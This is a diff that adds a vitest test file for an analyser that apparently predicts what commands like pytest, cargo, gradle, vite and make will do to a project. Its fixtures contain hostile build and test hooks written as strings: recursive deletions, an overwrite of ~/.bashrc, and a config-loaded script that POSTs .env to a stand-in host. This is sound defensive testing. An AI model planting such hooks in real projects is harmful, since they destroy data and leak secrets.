@@ -1,0 +1,136 @@
+import { expect, test } from 'vitest'
+import { effectLines } from '../../testing/effect-lines.ts'
+
+const at = (files: Readonly<Record<string, string>>): Readonly<Record<string, string>> =>
+  Object.fromEntries(Object.entries(files).map(([name, text]) => [name.startsWith('/') ? name : `/w/${name}`, text]))
+
+const goTest = (act: string): string => `package a\nimport ("os"; "testing")\nfunc TestMain(m *testing.M) { ${act}; os.Exit(m.Run()) }\n`
+
+test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>, expected: string]>([
+  [
+    'a module of a src layout',
+    'pytest',
+    { 'conftest.py': 'import shutil\nfrom app.p import D\nshutil.rmtree(D)', 'src/app/p.py': 'D = "data"' },
+    'delete data',
+  ],
+  ['a library of Ruby by its name', 'ruby a.rb', { 'a.rb': 'require "app/b"', 'lib/app/b.rb': 'system("rm -rf data")' }, 'delete data'],
+  [
+    'a module of Rust',
+    'cargo run',
+    { 'src/main.rs': 'mod b;\nfn main() {}', 'src/b.rs': 'fn f() { std::fs::remove_dir_all("data"); }' },
+    'delete data',
+  ],
+  ['a test of Go runs in its folder', 'go test ./...', { 'a/b/c_test.go': goTest('os.RemoveAll("../../data")') }, 'delete data'],
+  [
+    'a generator of Go runs in the folder of its line',
+    'go generate ./...',
+    {
+      'a/b/c.go': '//go:generate go run ../../gen\n',
+      'gen/main.go': 'package main\nimport "os"\nfunc main() { os.RemoveAll("../../data") }',
+    },
+    'delete data',
+  ],
+  [
+    'a build script runs in its package',
+    'cargo build',
+    { 'libs/b/build.rs': 'fn main() { std::fs::remove_dir_all("../../data"); }' },
+    'delete data',
+  ],
+  [
+    'a test of Rust runs in its package',
+    'cargo test',
+    { 'crates/b/tests/c.rs': 'fn t() { std::fs::remove_dir_all("data"); }' },
+    'delete crates/b/data',
+  ],
+  ['a build file runs in its package', 'gradle test', { 'b/build.gradle': 'delete "data"' }, 'delete b/data'],
+  [
+    'a build file of the home folder',
+    'gradle test',
+    { 'settings.gradle': 'new File(System.getProperty("user.home"), ".c").deleteDir()' },
+    'delete ~/.c',
+  ],
+  [
+    'a plugin of the build itself',
+    'gradle test',
+    { 'buildSrc/src/main/groovy/a.gradle': 'tasks.register("x") {}\n"rm -rf data".execute()' },
+    'delete data',
+  ],
+  ['the second of several', 'gradle test', { 'build.gradle.kts': 'delete("build", file("data"))' }, 'delete data'],
+  ['one of the project by its folder', 'gradle test', { 'build.gradle': 'delete "$rootDir/data"' }, 'delete data'],
+  ['each of a list', 'gradle test', { 'build.gradle.kts': 'listOf("a", "data").forEach { File(it).deleteRecursively() }' }, 'delete data'],
+  [
+    'one with a name',
+    'gradle run',
+    { 'src/main/kotlin/A.kt': 'val STORE = File("data")\nfun main() { STORE.deleteRecursively() }' },
+    'delete data',
+  ],
+  [
+    'a walk over several lines',
+    'gradle bootRun',
+    { 'src/main/java/a/A.java': 'Files.walk(Path.of("data"))\n  .map(Path::toFile)\n  .forEach(File::delete);' },
+    'delete data',
+  ],
+  ['one put together', 'dotnet run', { 'Program.cs': 'Directory.Delete(Path.Combine("data", "x"), true);' }, 'delete data/x'],
+  [
+    'a folder that Maven cleans as well',
+    'mvn clean',
+    { 'pom.xml': '<plugin><artifactId>maven-clean-plugin</artifactId><fileset><directory>data</directory></fileset></plugin>' },
+    'delete data',
+  ],
+  [
+    'a build tool from elsewhere',
+    'gradle test',
+    { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://x.example/gradle.zip' },
+    'execute:arbitrary https://x.example/gradle.zip',
+  ],
+  [
+    'settings that load what changes a start file',
+    'eslint .',
+    { 'eslint.config.js': "require('./a')", 'a.js': "require('fs').writeFileSync(require('os').homedir() + '/.bashrc', 'x')" },
+    'write ~/.bashrc',
+  ],
+  [
+    'settings that load what sends secrets',
+    'vite build',
+    {
+      'vite.config.js': "import './a.js'",
+      'a.js': "import fs from 'fs'\nfetch('https://x.example', { method: 'POST', body: fs.readFileSync('.env') })",
+    },
+    'send:data https://x.example',
+  ],
+  [
+    'files that a makefile includes by a pattern',
+    'make a',
+    { Makefile: '-include mk/*.mk\na: b\n', 'mk/b.mk': 'b:\n\trm -rf data\n' },
+    'delete data',
+  ],
+  ['a justfile that is imported', 'just a', { justfile: "import 'x/b.just'\na: b\n", 'x/b.just': 'b:\n  rm -rf data\n' }, 'delete data'],
+])('%s', (_name, commandLine, files, expected) => {
+  expect(effectLines(commandLine, { files: at(files) })).toContain(expected)
+})
+
+test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>, expected: readonly string[]]>([
+  [
+    'a build tool from those who make it',
+    'gradle test',
+    { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.8-bin.zip' },
+    ['execute:project tests', 'write build'],
+  ],
+  [
+    'code that is loaded and asks a server with a key',
+    'vite build',
+    {
+      'vite.config.js': "import './a.js'",
+      'a.js': "export const f = () => fetch('https://x.example', { headers: { key: process.env.KEY } })",
+    },
+    ['execute:project build', 'write dist'],
+  ],
+  [
+    'code that is loaded and keeps settings of its own',
+    'vite build',
+    { 'vite.config.js': "import './a.js'", 'a.js': "require('fs').writeFileSync(require('os').homedir() + '/.config/app/a.json', 'x')" },
+    ['execute:project build', 'write dist'],
+  ],
+])('%s', (_name, commandLine, files, expected) => {
+  expect(effectLines(commandLine, { files: at(files) })).toEqual(expected)
+})
